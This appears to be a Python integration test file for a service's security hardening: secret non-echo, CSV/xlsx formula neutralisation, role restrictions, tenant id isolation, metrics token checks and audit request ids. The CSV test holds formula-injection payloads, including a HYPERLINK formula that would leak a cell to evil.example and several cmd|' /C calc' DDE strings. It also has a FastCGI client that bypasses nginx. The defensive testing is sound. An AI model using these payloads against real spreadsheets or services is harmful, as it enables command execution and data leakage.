# t_hardening.py: the security review's fixes that have no other home, each
# checked through the real stack (nginx, rosterd, PostgreSQL) and, where the
# point is what nginx cannot stop, straight on rosterd's FastCGI socket:
#
# * no dialect quotes a secret field's value back, whatever the error; the
#   value is in no answer, no log line and no stored row;
# * spreadsheet outputs: CSV cells that would be formulas are neutralised,
#   the xlsx holds strings only;
# * roles flagged isSystemAdmin are SystemAdmins' to create, change, delete
#   and assign (/v1, seeds 000 and 004);
# * user ids are per tenant: no vendor answer depends on another tenant's
#   rows (an id used elsewhere is answered as an id used nowhere);
# * /metrics wants metrics_token_file's token, on the socket as through
#   nginx; /readyz tells only that token's holder why;
# * audit rows keep nginx's own request id next to the client's.
#
# Exec'd by test_api.py into its globals (request(), v1(), psql(), ... and
# t_aspnet.py's helpers); every top-level name here starts with _hard_ or
# hardening_.

import csv as _hard_csv
import io as _hard_io
import socket as _hard_socket
import struct as _hard_struct
import urllib.parse as _hard_urlparse
import zipfile as _hard_zipfile

_hard_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _hard_marker(prefix="Hs"):
    """A value no request of this run sends by chance, [A-Za-z0-9] only, so
    that it reads the same in JSON, XML, form, log and row text."""
    return prefix + uuid.uuid4().hex


def _hard_digits():
    return str(int(uuid.uuid4().int % 10**15) + 10**15)


def _hard_db_hits(markers):
    """[(table, marker)] for every row of every table whose text holds a
    marker, as text or as the hex of its bytes (bytea columns)."""
    pats = {}
    for m in markers:
        pats[m] = m
        pats[m.encode().hex()] = m
    rx = "|".join(sorted(pats))
    tables = psql("SELECT tablename FROM pg_tables WHERE schemaname = 'public' "
                  "ORDER BY tablename")
    hits = []
    for t in tables:
        for row in psql(f"SELECT DISTINCT (regexp_matches(x::text, {lit(rx)}, 'g'))[1] "
                        f"FROM {t} x"):
            hits.append((t, pats[row]))
    return hits


def _hard_secret_cases():
    """(label, method, path, body, ctype, headers, marker) for every secret
    field of every dialect, sent wrong-typed, malformed and oversized."""
    out = []

    def add(label, path, body, marker, ctype="application/json", method="POST",
            headers=None, token="default"):
        h = {"Idempotency-Key": "hard-" + uuid.uuid4().hex}
        h.update(headers or {})
        out.append((label, method, path, body, ctype, h, marker, token))

    # Seed 000: byte[] secrets (base64) and string secrets.
    for f in ("Password", "TokenCacheBits", "RefreshTokenCache"):
        m = _hard_marker()
        add(f"000 {f} not base64", SGU_PATH, sgu_sample(**{f: m + " horse!"}), m)
        m = _hard_marker()
        add(f"000 {f} oversized, not base64", SGU_PATH,
            sgu_sample(**{f: (m * 40) + "!"}), m)
        d = _hard_digits()
        add(f"000 {f} a number", SGU_PATH, sgu_sample(**{f: int(d)}), d)
        m = _hard_marker()
        add(f"000 {f} an array", SGU_PATH, sgu_sample(**{f: [m]}), m)
        m = _hard_marker()
        add(f"000 {f} form, not base64", SGU_PATH,
            _hard_urlparse.urlencode([("UserName", unique("hf")), ("SecurityGroupID",
                                     shared_group("security")), (f, m + " !")]),
            m, ctype="application/x-www-form-urlencoded")
    for f in ("PinCode", "APIToken", "Token"):
        m = _hard_marker()
        add(f"000 {f} an object", SGU_PATH, sgu_sample(**{f: {"v": m}}), m)
        m = _hard_marker()
        add(f"000 {f} an array", SGU_PATH, sgu_sample(**{f: [m, m]}), m)
    m = _hard_marker()
    add("000 PinCode oversized", SGU_PATH, sgu_sample(PinCode=m * 40), m)
    # Seed 003: password and confirmPassword, JSON, XML and form.
    for f in ("password", "confirmPassword"):
        m = _hard_marker()
        add(f"003 {f} an object", ACCOUNTS_PATH, account_sample(**{f: {"v": m}}), m)
        m = _hard_marker()
        add(f"003 {f} an array", ACCOUNTS_PATH, account_sample(**{f: [m]}), m)
    m, m2 = _hard_marker(), _hard_marker()
    add("003 passwords differ", ACCOUNTS_PATH,
        account_sample(password=m, confirmPassword=m2), m)
    m = _hard_marker()
    add("003 password oversized", ACCOUNTS_PATH,
        account_sample(password=m * 40, confirmPassword=m * 40), m)
    m = _hard_marker()
    add("003 XML passwords differ", ACCOUNTS_PATH,
        ('<AccountDetails xmlns="http://schemas.datacontract.org/2004/07/'
         'EziManager.Models.Tenancies.Accounts"><ConfirmPassword>x</ConfirmPassword>'
         f'<Email>{unique("hx")}@example.com</Email><Password>{m}</Password>'
         '</AccountDetails>'), m, ctype="application/xml")
    m = _hard_marker()
    add("003 XML password oversized", ACCOUNTS_PATH,
        ('<AccountDetails xmlns="http://schemas.datacontract.org/2004/07/'
         f'EziManager.Models.Tenancies.Accounts"><ConfirmPassword>{m * 40}</ConfirmPassword>'
         f'<Email>{unique("hx")}@example.com</Email><Password>{m * 40}</Password>'
         '</AccountDetails>'), m, ctype="application/xml")
    m = _hard_marker()
    add("003 form passwords differ", ACCOUNTS_PATH,
        _hard_urlparse.urlencode([("email", unique("hf") + "@example.com"), ("password", m),
                                ("confirmPassword", "x")]),
        m, ctype="application/x-www-form-urlencoded")
    # A secret that breaks the body's own syntax: an unescaped '&' in a
    # form (what follows reads as a key), an entity reference in XML.
    m = _hard_marker()
    add("000 form password with a bare &", SGU_PATH,
        f"UserName={unique('hf')}&Password=x&{m}[y=1", m,
        ctype="application/x-www-form-urlencoded")
    m = _hard_marker()
    add("003 form password with a bare &", ACCOUNTS_PATH,
        f"email={unique('hf')}%40example.com&password=x&{m}]=1&confirmPassword=x", m,
        ctype="application/x-www-form-urlencoded")
    m = _hard_marker()
    add("003 XML password with an entity", ACCOUNTS_PATH,
        ('<AccountDetails xmlns="http://schemas.datacontract.org/2004/07/'
         'EziManager.Models.Tenancies.Accounts"><ConfirmPassword>x</ConfirmPassword>'
         f'<Email>{unique("hx")}@example.com</Email><Password>a&{m};b</Password>'
         '</AccountDetails>'), m, ctype="application/xml")
    # /v1: the invite accept's password and token (the only /v1 secrets a
    # request carries).
    acc = "/v1/invites/accept"
    for label, body_of in (
            ("password a number", lambda m: {"token": "t" * 43, "password": int(m)}),
            ("password an object", lambda m: {"token": "t" * 43, "password": {"v": m}}),
            ("password an array", lambda m: {"token": "t" * 43, "password": [m]}),
            ("password oversized", lambda m: {"token": "t" * 43, "password": m * 40}),
            ("password too short", lambda m: {"token": "t" * 43, "password": m[:7]}),
            ("token a number", lambda m: {"token": int(m), "password": "p" * 12}),
            ("token an object", lambda m: {"token": {"v": m}, "password": "p" * 12}),
            ("token oversized", lambda m: {"token": m * 10, "password": "p" * 12}),
            ("token unknown", lambda m: {"token": m, "password": "p" * 12})):
        m = _hard_digits() if "number" in label else _hard_marker()
        if label == "password too short":
            m = "Zq" + uuid.uuid4().hex[:5]
        add(f"/v1 accept {label}", acc, body_of(m), m[:7] if "short" in label else m,
            token=None)
    return out


@test
def hardening_secrets_never_quoted_back():
    """Every secret field of every dialect, wrong-typed, malformed and
    oversized: the value is in no answer, no rosterd log line and no row of
    any table (idempotency's stored answers and audit_log included)."""
    cases = _hard_secret_cases()
    start = MAIN.log_size()
    leaks = []
    refused = 0
    for label, method, path, body, ctype, h, marker, token in cases:
        r = request(method, path, body, ctype=ctype, headers=h, token=token)
        check(r.status < 500, f"{label}: {r!r}")
        refused += r.status >= 400 or b'"IsSuccess":false' in r.body
        text = r.body.decode("utf-8", "replace") + " " + " ".join(
            f"{k}: {v}" for k, v in r.headers.items())
        if marker in text:
            leaks.append(f"{label}: answer {r!r}")
    log = MAIN.log_text(start)
    for label, *_, marker, _tok in cases:
        if marker in log:
            leaks.append(f"{label}: rosterd's log")
    markers = {c[6]: c[0] for c in cases}
    for table, m in _hard_db_hits(list(markers)):
        leaks.append(f"{markers[m]}: stored in {table}")
    check(refused >= len(cases) - 4, f"only {refused} of {len(cases)} refused")
    check(not leaks, f"{len(leaks)} leaks: " + " | ".join(leaks[:8]))


def _hard_csv_invite(email):
    r = request("POST", "/usergroupuserinvite.csv", {"eMail": email},
                headers={"X-Tenant-Id": TENANT_A})
    eq(r.status, 200, f"the CSV invite ({r!r})")
    eq(r.header("Content-Type"), "text/csv", "Content-Type")
    rows = list(_hard_csv.reader(_hard_io.StringIO(r.body.decode(), newline="")))
    eq(len(rows), 2, f"two rows: {r.body[:300]!r}")
    return r.body.decode(), dict(zip(rows[0], rows[1]))


@test
def hardening_csv_formulas_neutralised():
    """Names an invitee or a TenantAdmin chose come back in seed 001's CSV
    with a single quote before any formula, quoted; no data cell of the CSV
    starts like a formula; the xlsx of seed 003 holds them as strings."""
    email = unique("hcsv").lower() + "@example.com"
    evil = {
        "firstName": '=HYPERLINK("http://evil.example/?"&A2,"open")',
        "lastName": "@SUM(1+1)*cmd|' /C calc'!A0",
        "displayName": "+1+cmd|' /C calc'!A0",
        "phone": "-2+3+cmd|' /C calc'!A0",
        "timeZone": "\t=1+1",
    }
    r = v1("POST", f"/tenants/{TENANT_A}/users",
           dict(evil, username=unique("hcsv"), email=email))
    eq(r.status, 201, f"the user ({r!r})")
    body, cell = _hard_csv_invite(email)
    want = {"FirstName": evil["firstName"], "LastName": evil["lastName"],
            "DisplayName": evil["displayName"], "PhoneNumber": evil["phone"],
            "TimeZone": evil["timeZone"]}
    for k, v in want.items():
        eq(cell.get(k), "'" + v, f"CSV {k}")
    check('"\'=HYPERLINK(""http://evil.example/?""&A2,""open"")"' in body,
          f"the formula quoted and prefixed: {body!r}")
    for k, v in cell.items():
        check(not v or v[0] not in "=+@\t\r", f"CSV {k} starts like a formula: {v!r}")
        check(not v.startswith("-") or re.fullmatch(r"-[A-Za-z0-9_-]*", v),
              f"CSV {k} starts with '-' and more: {v!r}")
    # An e-mail address may look like a formula too.
    email2 = "=cmd|'/Ccalc'!A0@evil.example"
    r = v1("POST", f"/tenants/{TENANT_A}/users", {"username": unique("hcsv"),
                                                  "email": email2})
    if r.status == 201:
        _, cell = _hard_csv_invite(email2)
        eq(cell.get("Email"), "'" + email2, "CSV Email")
    # Seed 003's xlsx: strings, never formulas.
    tz = "=1+2+cmd|' /C calc'!A0"
    r = post_account(account_sample(timeZone=tz), headers={"Accept": _hard_XLSX})
    eq(r.status, 200, f"the xlsx account ({r.status})")
    check((r.header("Content-Type") or "").startswith(_hard_XLSX),
          f"Content-Type {r.header('Content-Type')}")
    z = _hard_zipfile.ZipFile(_hard_io.BytesIO(r.body))
    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
    check(sheets, f"no worksheet in {z.namelist()}")
    for n in sheets:
        x = z.read(n).decode()
        check("<f>" not in x and "<f " not in x, f"{n} has a formula: {x[:400]}")
    strings = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in \
        z.namelist() else ""
    check("=1+2+cmd|" in strings, f"the time zone is not a shared string: {strings[:400]}")


@test
def hardening_system_admin_roles_for_system_admins_only():
    """A TenantAdmin cannot create, set, change, delete or assign a role
    flagged isSystemAdmin: 403 naming isSystemAdmin (/v1), 403 HttpError
    (seeds 000 and 004), nothing written; a SystemAdmin can; the flag
    seed 000 keeps in Role is false from a TenantAdmin."""
    tadm = ctl_token("it-hard-tadm", ["TenantAdmin"], TENANT_A)
    base = f"/tenants/{TENANT_A}/roles"
    with NothingWritten():
        problem(v1("POST", base, {"name": unique("hsys"), "isSystemAdmin": True},
                   token=tadm), 403, "isSystemAdmin", "forbidden")
    plain = v1("POST", base, {"name": unique("hplain"), "isSystemAdmin": False}, token=tadm)
    eq(plain.status, 201, f"a TenantAdmin's plain role ({plain!r})")
    pid = plain.json()["id"]
    with NothingWritten():
        problem(v1("PATCH", f"{base}/{pid}", {"isSystemAdmin": True}, token=tadm), 403,
                "isSystemAdmin", "forbidden")
    r = v1("POST", base, {"name": unique("hsys"), "isSystemAdmin": True})
    eq(r.status, 201, f"a SystemAdmin's system role ({r!r})")
    sys_role = r.json()
    sid = sys_role["id"]
    user = v1("POST", f"/tenants/{TENANT_A}/users", {"username": unique("hsysu")}).json()
    with NothingWritten():
        problem(v1("PATCH", f"{base}/{sid}", {"description": "mine"}, token=tadm), 403,
                "isSystemAdmin", "forbidden")
        problem(v1("DELETE", f"{base}/{sid}", token=tadm), 403, "isSystemAdmin",
                "forbidden")
        problem(v1("PUT", f"/tenants/{TENANT_A}/users/{user['id']}/roles/{sid}",
                   token=tadm), 403, "isSystemAdmin", "forbidden")
        r = post_user(new_user(Roles=[{"Id": sid}]), token=tadm)
        eq(r.status, 403, f"seed 004 by Id ({r!r})")
        check("isSystemAdmin" in r.json().get("Message", ""), f"seed 004 Message {r!r}")
        eq(post_user(new_user(Roles=[{"Name": sys_role["name"].upper()}]), token=tadm).status,
           403, "seed 004 by Name")
        r = post_sgu(sgu_sample(RoleID=sid), token=tadm)
        eq(r.status, 403, f"seed 000 RoleID ({r!r})")
        check("RoleID" in r.json().get("Message", ""), f"seed 000 Message {r!r}")
    eq(v1("GET", f"{base}/{sid}", token=tadm).status, 200, "a TenantAdmin reads it")
    r = v1("PUT", f"/tenants/{TENANT_A}/users/{user['id']}/roles/{sid}")
    eq(r.status, 201, f"a SystemAdmin assigns it ({r!r})")
    eq(v1("DELETE", f"/tenants/{TENANT_A}/users/{user['id']}/roles/{sid}", token=tadm).status,
       204, "a TenantAdmin removes the assignment")
    eq(post_user(new_user(Roles=[{"Id": sid}])).status, 200, "seed 004 by a SystemAdmin")
    # Seed 000's Role description: the vendor's sample says
    # IsSystemAdministrator true; from a TenantAdmin it is kept as false.
    b = envelope(post_sgu(sgu_sample(), token=tadm))
    eq(b["Response"]["Role"]["IsSystemAdministrator"], False, "TenantAdmin's Role flag")
    b = envelope(post_sgu(sgu_sample()))
    eq(b["Response"]["Role"]["IsSystemAdministrator"], True, "SystemAdmin's Role flag")
    eq(v1("PATCH", f"{base}/{sid}", {"isSystemAdmin": False}).status, 200,
       "a SystemAdmin changes it")
    eq(v1("DELETE", f"{base}/{pid}", token=tadm).status, 204, "a TenantAdmin deletes a plain role")


@test
def hardening_user_ids_per_tenant():
    """An id that another tenant's user has is answered exactly as an id no
    tenant has (seeds 000, 003, 004): A gets its own user with that id, and
    B's user is not touched; nothing says the id exists elsewhere."""
    sys_b = ctl_token("it-hard-sys-b", ["SystemAdmin"], TENANT_B)
    x = str(uuid.uuid4())
    r = post_user(new_user(Id=x), org=TENANT_B, token=sys_b)
    eq(r.status, 200, f"B's user ({r!r})")
    b_row = psql(f"SELECT username, version FROM users WHERE tenant_id = {lit(TENANT_B)} "
                 f"AND id = {lit(x)}")
    for label, send in (
            ("003", lambda i: post_account(account_sample(id=i))),
            ("000", lambda i: post_sgu(sgu_sample(ID=i)))):
        y = str(uuid.uuid4())
        ra, rb = send(x), send(y)
        eq((ra.status, rb.status), (200, 200), f"{label}: id elsewhere, id nowhere")
        ka = sorted(k for k in ra.json())
        eq(ka, sorted(k for k in rb.json()), f"{label}: the same answer shape")
        eq(psql(f"SELECT count(*) FROM users WHERE tenant_id = {lit(TENANT_A)} "
                f"AND id IN ({lit(x)}, {lit(y)})"), ["2"], f"{label}: both made in A")
        psql(f"DELETE FROM users WHERE tenant_id = {lit(TENANT_A)} AND id = {lit(x)}")
    eq(post_user(new_user(Id=x)).status, 200, "004: A's own user with B's id")
    eq(psql(f"SELECT username, version FROM users WHERE tenant_id = {lit(TENANT_B)} "
            f"AND id = {lit(x)}"), b_row, "B's user untouched")


# A FastCGI client: one request on rosterd's socket, as any process that can
# open the socket may send it (no nginx: no allow-list, no REQUEST_ID map).
def _hard_fcgi(params, sock_path=None, stdin=b""):
    def rec(t, content, rid=1):
        return _hard_struct.pack("!BBHHBx", 1, t, rid, len(content), 0) + content

    def nv(k, v):
        k, v = k.encode(), v.encode()
        return bytes([len(k)]) + (bytes([len(v)]) if len(v) < 128 else
                                  _hard_struct.pack("!I", len(v) | 0x80000000)) + k + v
    body = b"".join(nv(k, v) for k, v in params.items())
    s = _hard_socket.socket(_hard_socket.AF_UNIX, _hard_socket.SOCK_STREAM)
    s.settimeout(30 * TIME_SCALE)
    s.connect(sock_path or ENV["RT_SOCK"])
    try:
        s.sendall(rec(1, _hard_struct.pack("!HB5x", 1, 0)) + rec(4, body) + rec(4, b"")
                  + (rec(5, stdin) if stdin else b"") + rec(5, b""))
        out, buf = b"", b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            buf += chunk
            while len(buf) >= 8:
                _v, t, _r, n, pad = _hard_struct.unpack("!BBHHB", buf[:7])
                if len(buf) < 8 + n + pad:
                    break
                if t == 6:
                    out += buf[8:8 + n]
                buf = buf[8 + n + pad:]
                if t == 3:
                    s.close()
                    return _hard_cgi(out)
    finally:
        s.close()
    return _hard_cgi(out)


def _hard_cgi(out):
    head, _, body = out.partition(b"\r\n\r\n")
    status = 200
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"status:"):
            status = int(line.split()[1])
    return status, head.decode("latin-1"), body


def _hard_env(path, **headers):
    e = {"REQUEST_METHOD": "GET", "REQUEST_URI": path, "DOCUMENT_URI": path,
         "QUERY_STRING": "", "REMOTE_ADDR": "127.0.0.1", "SERVER_PROTOCOL": "HTTP/1.1"}
    e.update(headers)
    return e


@test
def hardening_metrics_and_readyz_need_the_token():
    """/metrics: 200 only with metrics_token_file's token, through nginx and
    straight on the socket (a forged REMOTE_ADDR changes nothing); 401 with
    none, another or a SystemAdmin JWT; 403 from a rosterd without
    metrics_token_file. /readyz: the status for anyone, why only with it."""
    for label, tok in (("no token", None), ("garbage", "garbage"),
                       ("a SystemAdmin JWT", default_token()),
                       ("the token and more", METRICS_TOKEN + "x"),
                       ("a prefix of the token", METRICS_TOKEN[:-1])):
        r = request("GET", "/metrics", token=tok)
        eq(r.status, 401, f"/metrics, {label}")
        check(b"rosterd_" not in r.body, f"/metrics, {label}: counters sent")
        check(r.header("WWW-Authenticate"), f"/metrics, {label}: no WWW-Authenticate")
    r = request("GET", "/metrics", token=METRICS_TOKEN)
    eq(r.status, 200, "/metrics with the token")
    check(b"rosterd_http_requests" in r.body, "the counters")
    r = request("GET", "/metrics", token=None,
                headers={"Authorization": "bearer " + METRICS_TOKEN})
    eq(r.status, 200, "/metrics, the scheme in lower case")
    # Straight on the socket, as any process of the socket's group can.
    st, _, body = _hard_fcgi(_hard_env("/metrics"))
    eq(st, 401, f"/metrics on the socket: {body[:200]!r}")
    st, _, body = _hard_fcgi(_hard_env("/metrics", HTTP_X_FORWARDED_FOR="127.0.0.1"))
    eq(st, 401, "/metrics on the socket, forged addresses")
    st, _, body = _hard_fcgi(_hard_env("/metrics",
                                       HTTP_AUTHORIZATION="Bearer " + METRICS_TOKEN))
    eq(st, 200, "/metrics on the socket with the token")
    check(b"rosterd_http_requests" in body, "the counters on the socket")
    # /readyz
    r = request("GET", "/readyz", token=None)
    eq((r.status, r.json()), (200, {"status": "ready"}), "/readyz without the token")
    st, _, body = _hard_fcgi(_hard_env("/readyz"))
    eq((st, json.loads(body)), (200, {"status": "ready"}), "/readyz on the socket")
    r = request("GET", "/readyz", token=METRICS_TOKEN)
    eq((r.status, r.json()), (200, {"status": "ready", "database": "up",
                                    "writable": True}),
       "/readyz with the token")
    # A rosterd without metrics_token_file: /metrics is closed to everyone.
    sock = os.path.join(TMP, "hard-nometrics.sock")
    conf = os.path.join(TMP, "hard-nometrics.conf")
    write_conf(conf, [x for x in good_conf_lines(sock)
                      if x.split("=", 1)[0].strip() != "metrics_token_file"])
    inst = Rosterd("rosterd-hard-nometrics", conf)
    try:
        wait_until(lambda: os.path.exists(sock) or inst.proc.poll() is not None,
                   "the socket of a rosterd without metrics_token_file")
        check(inst.proc.poll() is None, f"it exited: {inst.log_text()[-400:]}")
        st, _, body = wait_until(lambda: _hard_try_fcgi(_hard_env(
            "/metrics", HTTP_AUTHORIZATION="Bearer " + METRICS_TOKEN), sock),
            "an answer from it")
        eq(st, 403, f"/metrics without metrics_token_file: {body[:200]!r}")
        check(b"metrics_token_file" in body, f"the 403 says why: {body[:200]!r}")
    finally:
        eq(inst.stop(), 0, "its exit status")


def _hard_try_fcgi(env, sock):
    try:
        return _hard_fcgi(env, sock)
    except OSError:
        return None


@test
def hardening_audit_rows_keep_nginx_request_id():
    """An audit row holds the client's X-Request-Id (request_id) and nginx's
    own id (edge_request_id), which no client chooses; an X-Request-Id that
    fails the check (charset, length) is stored nowhere and the answer's
    id is nginx's; the database's own checks refuse such ids too."""
    rid = "client-" + uuid.uuid4().hex
    r = v1("POST", f"/tenants/{TENANT_A}/users", {"username": unique("hrid")},
           headers={"X-Request-Id": rid})
    eq(r.status, 201, f"create ({r!r})")
    eq(r.header("X-Request-Id"), rid, "the client's id echoed")
    row = psql(f"SELECT request_id, edge_request_id FROM audit_log WHERE tenant_id = "
               f"{lit(TENANT_A)} AND target_id = {lit(r.json()['id'])}")
    eq(len(row), 1, "one audit row")
    got_rid, edge = row[0].split("|")
    eq(got_rid, rid, "audit request_id: the client's")
    check(re.fullmatch(r"[0-9a-f]{32}", edge), f"audit edge_request_id: nginx's ({edge!r})")
    a = v1("GET", f"/tenants/{TENANT_A}/audit?targetId={r.json()['id']}")
    if a.status == 200:
        items = a.json().get("items", [])
        check(items and items[0].get("edgeRequestId") == edge and
              items[0].get("requestId") == rid, f"/v1 audit: {items[:1]}")
    # Two requests with one forged id: two edge ids.
    r2 = v1("POST", f"/tenants/{TENANT_A}/users", {"username": unique("hrid")},
            headers={"X-Request-Id": rid})
    edge2 = sql_one(f"SELECT edge_request_id FROM audit_log WHERE tenant_id = "
                    f"{lit(TENANT_A)} AND target_id = {lit(r2.json()['id'])}")
    check(edge2 != edge, "a reused X-Request-Id still has its own edge id")
    for bad in ("bad id;" + uuid.uuid4().hex, "x" * 129 + uuid.uuid4().hex,
                "a\u00e9" + uuid.uuid4().hex):
        try:
            r = v1("POST", f"/tenants/{TENANT_A}/users", {"username": unique("hrid")},
                   headers={"X-Request-Id": bad})
        except (ValueError, UnicodeError):
            continue  # http.client refuses to send it: nothing to test
        eq(r.status, 201, f"create with X-Request-Id {bad[:20]!r}")
        got = r.header("X-Request-Id")
        check(got != bad and re.fullmatch(r"[0-9a-f]{32}", got or ""),
              f"answer id {got!r}")
        eq(psql(f"SELECT request_id = edge_request_id AND request_id = {lit(got)} "
                f"FROM audit_log WHERE tenant_id = {lit(TENANT_A)} "
                f"AND target_id = {lit(r.json()['id'])}"), ["t"], "nginx's id in both")
        eq(psql(f"SELECT count(*) FROM audit_log WHERE strpos(coalesce(request_id, ''), "
                f"{lit(bad[-32:])}) > 0"), ["0"], "the bad id stored nowhere")
    # The database's own checks, behind rosterd's: 1 to 128 of the set, in
    # either column (a space splits the one parameter into the two).
    for rid, ok in (("a" * 128, True), ("Az09._:-", True), ("a" * 129, False), ("", False),
                    ("a;b", False), ("a\u00e9", False), ("ok " + "b" * 129, False),
                    ("ok a;b", False), ("ok " + "b" * 128, True)):
        ins = (f"BEGIN; INSERT INTO audit_log (tenant_id, actor, action, target_type, "
               f"request_id) VALUES ({lit(TENANT_A)}, 'it', 'it.check', 'it', {lit(rid)}); "
               f"ROLLBACK;")
        try:
            psql(ins)
            got = True
        except Fail as e:
            check("request_id_check" in str(e), f"request id {rid[:20]!r}: {e}")
            got = False
        eq(got, ok, f"the database takes request id {rid[:20]!r} ({len(rid)})")
    # On the socket, without nginx: a bad X-Request-Id is not stored either.
    bad = "evil id " + uuid.uuid4().hex
    body = json.dumps({"username": unique("hrid")}).encode()
    st, head, out = _hard_fcgi(dict(_hard_env(f"/v1/tenants/{TENANT_A}/users"),
                                    REQUEST_METHOD="POST", CONTENT_TYPE="application/json",
                                    CONTENT_LENGTH=str(len(body)), HTTP_X_REQUEST_ID=bad,
                                    HTTP_AUTHORIZATION="Bearer " + default_token()),
                               stdin=body)
    eq(st, 201, f"create on the socket: {out[:200]!r}")
    eq(psql(f"SELECT count(*) FROM audit_log WHERE strpos(coalesce(request_id, '') || "
            f"coalesce(edge_request_id, ''), {lit(bad[-32:])}) > 0"), ["0"],
       "the bad id stored nowhere")


@test
def hardening_every_audited_write_keeps_nginx_request_id():
    """Every /v1 write that leaves an audit row stores nginx's id next to
    the client's X-Request-Id: users, groups, roles, invites, API tokens
    (create and revoke) and tenant aliases (create and delete)."""
    prefix = "every-" + uuid.uuid4().hex[:12] + "-"
    t = f"/tenants/{TENANT_A}"
    n = [0]

    def w(method, path, body=None, status=(200, 201, 204)):
        n[0] += 1
        r = v1(method, t + path, body, headers={"X-Request-Id": f"{prefix}{n[0]}"})
        check(r.status in status, f"{method} {path}: {r!r}")
        return r.json() if r.status != 204 else None

    u = w("POST", "/users", {"username": unique("hevery")})
    w("PATCH", f"/users/{u['id']}", {"firstName": "Every"})
    g = w("POST", "/groups", {"name": unique("hevery"), "kind": "security",
                              "code": unique("hevery")})
    w("POST", f"/groups/{g['id']}/members", {"userIds": [u["id"]]})
    w("POST", "/roles", {"name": unique("hevery")})
    w("POST", "/invites", {"email": unique("hevery") + "@example.com"})
    tok = w("POST", "/api-tokens", {"name": unique("hevery"), "role": "TenantReader"})
    w("DELETE", f"/api-tokens/{tok['id']}")
    al = w("POST", "/aliases", {"issuer": "entra", "externalId": "ext-" + uuid.uuid4().hex})
    w("DELETE", f"/aliases/{al['id']}")
    rows = psql(f"SELECT action || ' ' || coalesce(edge_request_id, '-') FROM audit_log "
                f"WHERE tenant_id = {lit(TENANT_A)} AND request_id LIKE {lit(prefix + '%')} "
                f"ORDER BY action")
    acts = {x.split()[0] for x in rows}
    for a in ("user.create", "user.update", "group.create", "group.members.add",
              "role.create", "invite.create", "apitoken.create", "apitoken.revoke",
              "tenant_alias.create", "tenant_alias.delete"):
        check(a in acts, f"an audit row {a} under the client's id: {rows!r}")
    bad = [x for x in rows if not re.fullmatch(r"\S+ [0-9a-f]{32}", x)]
    check(not bad, f"audit rows without nginx's id: {bad!r}")


@test
def hardening_database_keeps_user_and_audit_limits():
    """Behind each dialect's field table, the database refuses a user whose
    text is over its column's limit (in characters), on insert and on
    update, naming the limit's constraint, and an audit row's request id
    that breaks its rule on update as on insert; values at the limits and
    NULLs pass, and a NULL username is left to NOT NULL."""
    limits = (("username", 256), ("email", 254), ("first_name", 256), ("last_name", 256),
              ("display_name", 256), ("title", 256), ("phone", 64), ("external_id", 256))
    uid = str(uuid.uuid4())

    def ins(cols):
        names = ", ".join(["tenant_id", "id"] + list(cols))
        vals = ", ".join([lit(TENANT_A), lit(uid)] + [lit(v) if v is not None else "NULL"
                                                       for v in cols.values()])
        return f"INSERT INTO users ({names}) VALUES ({vals})"

    def refused(sql, needle, what):
        try:
            psql(f"BEGIN; {sql}; ROLLBACK;")
        except Fail as e:
            check(needle in str(e), f"{what}: {e}")
            return
        raise Fail(f"{what}: the database took it")
    name = unique("hlim")
    at = {c: ("é" if c != "phone" else "1") * n for c, n in limits}
    at["username"] = (name + "é" * 256)[:256]
    at["email"] = (name + "@" + "e" * 254)[:254]
    psql(f"BEGIN; {ins(at)}; ROLLBACK;")
    psql(f"BEGIN; {ins({'username': name})}; ROLLBACK;")
    for col, n in limits:
        over = dict(at)
        over[col] = at[col] + "x"
        refused(ins(over), f'"users_{col}_check"', f"{col} of {n + 1} characters")
    refused(ins({"username": ""}), '"users_username_check"', "an empty username")
    refused(ins({"username": None}), "not-null", "a NULL username")
    u = v1_user()
    where = f"tenant_id = {lit(TENANT_A)} AND id = {lit(u['id'])}"
    for col, n in limits:
        refused(f"UPDATE users SET {col} = repeat('x', {n + 1}) WHERE {where}",
                f'"users_{col}_check"', f"an update of {col} to {n + 1} characters")
    psql(f"BEGIN; UPDATE users SET title = repeat('é', 256) WHERE {where}; ROLLBACK;")
    aid = sql_one(f"SELECT id FROM audit_log WHERE tenant_id = {lit(TENANT_A)} "
                  f"AND target_id = {lit(u['id'])} LIMIT 1")
    for col in ("request_id", "edge_request_id"):
        for bad in ("a;b", "a b", "", "x" * 129):
            refused(f"UPDATE audit_log SET {col} = {lit(bad)} WHERE id = {lit(aid)}",
                    f'"audit_log_{col}_check"', f"audit_log.{col} updated to {bad[:10]!r}")
        psql(f"BEGIN; UPDATE audit_log SET {col} = {lit('y' * 128)} WHERE id = {lit(aid)}; "
             "ROLLBACK;")
